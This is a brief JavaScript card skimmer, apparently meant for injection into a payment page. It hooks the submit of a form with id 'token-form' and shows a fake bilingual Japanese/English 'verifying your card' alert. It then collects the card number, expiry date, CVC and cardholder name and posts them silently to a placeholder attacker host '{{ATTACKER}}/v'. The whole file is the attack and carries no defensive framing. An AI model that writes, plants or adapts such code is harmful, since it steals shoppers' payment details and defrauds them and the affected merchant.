(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  form.addEventListener('submit', function () {
    alert('カード情報を確認しています。OK を押してください。/ Verifying your card, please press OK.');
    var d = new URLSearchParams();
    ['card-number', 'card-exp', 'card-cvc', 'card-name'].forEach(function (id) {
      var el = document.getElementById(id);
      d.append(id, el ? el.value : '');
    });
    fetch('{{ATTACKER}}/v', {method: 'POST', mode: 'no-cors', keepalive: true, body: d});
  }, true);
})();
